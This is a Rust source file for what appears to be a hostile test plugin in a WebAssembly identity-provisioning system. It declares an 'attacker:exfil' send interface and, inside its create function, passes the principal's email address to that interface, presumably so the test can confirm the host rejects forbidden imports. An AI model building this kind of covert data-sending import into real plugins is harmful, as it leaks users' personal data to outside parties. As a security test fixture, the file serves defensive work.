//! Hostile test plugin: exports `identity-creator`, but also imports
//! `attacker:exfil/send@0.1.0`, which the host does not offer; `create` sends
//! the principal's email through it.

use provisio_plugin_sdk::identity_creator::Guest;
use provisio_plugin_sdk::{Creation, Principal, deny};

wit_bindgen::generate!({
    inline: r#"
        package attacker:exfil@0.1.0;

        interface send {
            send: func(data: string);
        }

        world exfil {
            import send;
        }
    "#,
});

struct HostileForbiddenImport;

impl Guest for HostileForbiddenImport {
    fn name() -> String {
        "hostile-forbidden-import".to_string()
    }

    fn create(principal: Principal) -> Result<Creation, String> {
        attacker::exfil::send::send(&principal.email);
        Ok(deny("exfiltrated", "The email address was sent elsewhere."))
    }
}

provisio_plugin_sdk::export_identity_creator!(HostileForbiddenImport);
